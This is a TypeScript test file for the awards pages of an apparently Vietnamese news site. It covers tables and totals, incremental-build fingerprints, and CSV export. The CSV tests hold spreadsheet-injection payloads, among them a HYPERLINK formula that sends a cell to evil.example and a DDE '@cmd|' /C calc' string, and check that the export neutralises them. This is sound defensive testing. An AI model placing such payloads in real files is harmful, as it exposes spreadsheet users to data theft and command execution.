/**
 * Awards: tables per province and year, totals by title, the national
 * overview, and CSV files read back with a real RFC 4180 parser
 * (csv-parse) on hostile values.
 */
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { compareNewestFirst, type Article } from "../src/content/article.ts";
import { AWARD_FINGERPRINT_FIELDS, TABLE_FINGERPRINT_FIELDS, awardCsvStep, awardTablePages, awardYearPages, tableDigest } from "../src/awards/award-pages.ts";
import { awardCsvFiles } from "../src/awards/awards-csv.ts";
import { buildAwardsSite } from "../src/awards/awards.ts";
import { csvCell, toCsv } from "../src/awards/csv.ts";
import { totalLine } from "../layouts/awards-pages.ts";
import { siteConfigFromEnv } from "../src/site-config.ts";
import { createSiteData } from "../src/site-data.ts";
import { mdFile, parseOk } from "./helpers.ts";

let n = 0;
function article(province: string, date: string, awards: string, extra = ""): Article {
  return parseOk(mdFile(`title: Hội nghị ${n}\ndate: ${date}\nprovince: ${province}${extra}\nawards:\n${awards}`), `content/${province}/${date}-hoi-nghi-${n++}.md`);
}
const award = (title: string, fields = ""): string => `  - title: ${JSON.stringify(title)}${fields}`;
const newestFirst = (...articles: Article[]): Article[] => [...articles].sort(compareNewestFirst);

/** Reads a CSV file the way a spreadsheet importer would: BOM stripped, RFC 4180 quoting. */
function readCsv(text: string): string[][] {
  return parse(text, { bom: true, relax_column_count: false }) as string[][];
}

describe("award tables", () => {
  const a1 = article("gia-lai", "2016-11-29", `${award("Lao động tiên tiến", "\n    recipient: cá nhân\n    count: 11\n    conferredBy: Giám đốc Sở")}\n${award("Giấy khen", "\n    recipient: cá nhân\n    count: 4")}\n${award("Giấy khen", "\n    recipient: Trung tâm CNTT&TT")}`, "\nreviewYear: 2016");
  const a2 = article("gia-lai", "2017-01-06", `${award("lao  động tiên tiến", "\n    recipient: Cá nhân\n    count: 3")}\n${award("Giấy khen", "\n    recipient: Trung tâm CNTT&TT")}`, "\nreviewYear: 2016");
  const a3 = article("gia-lai", "2017-12-20", award("Cờ thi đua"));
  const a4 = article("binh-dinh", "2016-12-01", award("Lao động tiên tiến", "\n    recipient: cá nhân\n    count: 7"));
  const site = buildAwardsSite(newestFirst(a1, a2, a3, a4));

  it("puts an award in the year the article reviews, else the year of its date, in the article's own unit", () => {
    expect(site.tables.map((t) => `${t.unit.id} ${t.year} ${t.rows.length}`)).toEqual(["binh-dinh 2016 1", "gia-lai 2017 1", "gia-lai 2016 5"]);
    expect(site.tables.find((t) => t.unit.id === "gia-lai" && t.year === 2016)?.url).toBe("/khen-thuong/gia-lai/2016/");
  });

  it("totals by title and recipient, ignoring case and spacing, linked to every article, counting an award without count once", () => {
    const table = site.tables.find((t) => t.unit.id === "gia-lai" && t.year === 2016)!;
    expect(table.totals.map((t) => [totalLine(t), t.articles.map((a) => a.date.day)])).toEqual([
      ["Giấy khen: 4 cá nhân", ["2016-11-29"]],
      ["Giấy khen: Trung tâm CNTT&TT (2 lần)", ["2017-01-06", "2016-11-29"]],
      ["Lao động tiên tiến: 14 Cá nhân", ["2017-01-06", "2016-11-29"]],
    ]);
    expect(totalLine(site.tables.find((t) => t.year === 2017)!.totals[0]!)).toBe("Cờ thi đua");
  });

  it("gives a national overview per year across provinces, newest year first", () => {
    expect(site.years.map((y) => [y.year, y.url, y.tables.map((t) => t.unit.id)])).toEqual([
      [2017, "/khen-thuong/2017/", ["gia-lai"]],
      [2016, "/khen-thuong/2016/", ["binh-dinh", "gia-lai"]],
    ]);
    const y2016 = site.years[1]!;
    expect(y2016.totals.map(totalLine)).toEqual(["Giấy khen: 4 cá nhân", "Giấy khen: Trung tâm CNTT&TT (2 lần)", "Lao động tiên tiến: 21 cá nhân"]);
    expect(site.rowCount).toBe(7);
  });

  it("handles a huge awards list in one pass, with sums that never overflow", () => {
    // 40 articles of 500 awards each: one article's front matter stays within the loader's 64 KiB limit.
    const articles = Array.from({ length: 40 }, (_, a) => {
      const many = Array.from({ length: 500 }, (_, i) => award(`Danh hiệu ${i % 50}`, `\n    recipient: cá nhân\n    count: ${Number.MAX_SAFE_INTEGER}`)).join("\n");
      return article("ha-noi", `2020-01-${String(1 + (a % 28)).padStart(2, "0")}`, many);
    });
    const big = buildAwardsSite(newestFirst(...articles));
    expect(big.tables[0]?.rows).toHaveLength(20_000);
    expect(big.tables[0]?.totals).toHaveLength(50);
    for (const t of big.tables[0]!.totals) expect(t.total).toBe(Number.MAX_SAFE_INTEGER);
  });
});

describe("CSV", () => {
  const HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+84 912 345 678",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    'Sở "TT&TT", Gia Lai',
    "dòng 1\ndòng 2\r\ndòng 3",
    "Lao động tiên tiến",
    "",
  ];

  it("writes UTF-8 with a byte-order mark and CRLF line ends", () => {
    const text = toCsv(["Danh hiệu", "Số lượng"], [["Lao động tiên tiến", 11]]);
    expect(text.charCodeAt(0)).toBe(0xfeff);
    expect(Buffer.from(text, "utf8").subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(text).toBe('\uFEFF"Danh hiệu","Số lượng"\r\n"Lao động tiên tiến",11\r\n');
  });

  it("reads back with a real parser, value for value, every formula neutralised with a leading apostrophe", () => {
    const text = toCsv(["giá trị", "số"], HOSTILE.map((v, i) => [v, i]));
    const rows = readCsv(text);
    expect(rows[0]).toEqual(["giá trị", "số"]);
    const values = rows.slice(1).map((r) => r[0]);
    expect(values).toEqual([
      `'${HOSTILE[0]}`,
      `'${HOSTILE[1]}`,
      `'${HOSTILE[2]}`,
      `'${HOSTILE[3]}`,
      `'${HOSTILE[4]}`,
      `'${HOSTILE[5]}`,
      `'${HOSTILE[6]}`,
      `'${HOSTILE[7]}`,
      HOSTILE[8],
      HOSTILE[9],
      HOSTILE[10],
      "",
    ]);
    expect(rows.slice(1).map((r) => r[1])).toEqual(HOSTILE.map((_, i) => String(i)));
    // No cell a spreadsheet would evaluate: none starts with a formula character.
    for (const v of values) expect(v).not.toMatch(/^[\s]*[=+\-@＝＋－＠]|^[\t\r]/u);
  });

  it("writes numbers as numbers and leaves absent values empty", () => {
    expect([csvCell(11), csvCell(undefined), csvCell(Number.NaN), csvCell("11")]).toEqual(["11", "", "", '"11"']);
  });

  it("every award table has its CSV, with the page's columns and absolute article addresses", () => {
    const hostile = article("ha-tinh", "2015-12-07", `${award(HOSTILE[0]!, `\n    recipient: ${JSON.stringify(HOSTILE[8])}\n    count: 2\n    conferredBy: "@cmd|' /C calc'!A0"`)}\n${award("Bằng khen", "\n    recipient: cá nhân\n    count: 3")}`);
    const config = { ...siteConfigFromEnv({ SITE_URL: "https://example.gov.vn/tin" }) };
    const site = buildAwardsSite([hostile]);
    const files = awardCsvFiles(config, site);
    expect(files.map((f) => f.path).sort()).toEqual([
      "khen-thuong/2015/khen-thuong-theo-tinh-2015.csv",
      "khen-thuong/2015/tong-hop-khen-thuong-2015.csv",
      "khen-thuong/ha-tinh/2015/khen-thuong-ha-tinh-2015.csv",
      "khen-thuong/ha-tinh/2015/tong-hop-khen-thuong-ha-tinh-2015.csv",
    ]);
    const rows = readCsv(String(files.find((f) => f.path.endsWith("khen-thuong-ha-tinh-2015.csv"))!.contents));
    expect(rows[0]).toEqual(["Tỉnh, thành phố", "Năm", "Danh hiệu, hình thức", "Đối tượng", "Số lượng", "Cấp trao tặng", "Ngày đăng", "Bài viết", "Địa chỉ bài viết"]);
    expect(rows[1]).toEqual(["Hà Tĩnh", "2015", `'${HOSTILE[0]}`, HOSTILE[8], "2", "'@cmd|' /C calc'!A0", "2015-12-07", hostile.title, `https://example.gov.vn/tin${hostile.url}`]);
    const national = readCsv(String(files.find((f) => f.path.endsWith("khen-thuong-theo-tinh-2015.csv"))!.contents));
    expect(national.slice(1).map((r) => [r[0], r[2], r[4], r[6]])).toEqual([
      ["ha-tinh", `'${HOSTILE[0]}`, "2", "https://example.gov.vn/tin/khen-thuong/ha-tinh/2015/"],
      ["ha-tinh", "Bằng khen", "3", "https://example.gov.vn/tin/khen-thuong/ha-tinh/2015/"],
    ]);
  });
});

describe("award outputs in incremental builds", () => {
  // Fingerprints decide what an edit build renders again (src/build/incremental.ts): a changed
  // award must change its table's page, CSV files and year overview, and nothing of other tables.
  const fingerprints = (articles: readonly Article[]): Map<string, string> => {
    const site = createSiteData(newestFirst(...articles), { config: siteConfigFromEnv({}) });
    const out = new Map<string, string>();
    for (const producer of [awardCsvStep, awardTablePages, awardYearPages]) for (const d of producer.declare(site)) out.set(d.url, d.fingerprint?.() ?? "");
    return out;
  };
  const other = article("binh-dinh", "2016-12-01", award("Lao động tiên tiến", "\n    recipient: cá nhân\n    count: 7"));
  const later = article("gia-lai", "2017-12-20", award("Cờ thi đua"));
  const before = article("gia-lai", "2016-11-29", award("Giấy khen", "\n    count: 4"), "\nreviewYear: 2016");
  const edited = { ...before, awards: [{ ...before.awards[0]!, count: 5 }] };

  it("describe every field of a table, a row and an award (a new field must be added to the fingerprint)", () => {
    const full = article("gia-lai", "2016-11-29", award("Giấy khen", "\n    recipient: tập thể\n    count: 4\n    conferredBy: Giám đốc Sở"));
    const table = buildAwardsSite([full]).tables[0]!;
    expect(Object.keys(table).sort()).toEqual([...TABLE_FINGERPRINT_FIELDS].sort());
    expect(Object.keys(table.rows[0]!).sort()).toEqual(["article", "award"]);
    expect(Object.keys(table.rows[0]!.award).sort()).toEqual([...AWARD_FINGERPRINT_FIELDS].sort());
    const digestWith = (change: object): string => tableDigest(buildAwardsSite([{ ...full, awards: [{ ...full.awards[0]!, ...change }] }]).tables[0]!);
    const same = digestWith({});
    expect(same).toBe(tableDigest(buildAwardsSite([full]).tables[0]!));
    for (const change of [{ title: "Bằng khen" }, { recipient: "cá nhân" }, { recipient: undefined }, { count: 5 }, { count: undefined }, { conferredBy: "UBND tỉnh" }]) expect(digestWith(change), JSON.stringify(change)).not.toBe(same);
  });

  it("changes the fingerprints of the edited table's page, CSV files and year, and only those", () => {
    const a = fingerprints([other, later, before]);
    const b = fingerprints([other, later, edited]);
    expect([...a.keys()]).toEqual([...b.keys()]);
    for (const [url, fp] of a) expect(fp, url).not.toBe("");
    const changed = [...a.keys()].filter((url) => a.get(url) !== b.get(url)).sort();
    expect(changed).toEqual([
      "/khen-thuong/2016/",
      "/khen-thuong/2016/khen-thuong-theo-tinh-2016.csv",
      "/khen-thuong/2016/tong-hop-khen-thuong-2016.csv",
      "/khen-thuong/gia-lai/2016/",
      "/khen-thuong/gia-lai/2016/khen-thuong-gia-lai-2016.csv",
      "/khen-thuong/gia-lai/2016/tong-hop-khen-thuong-gia-lai-2016.csv",
    ]);
  });
});
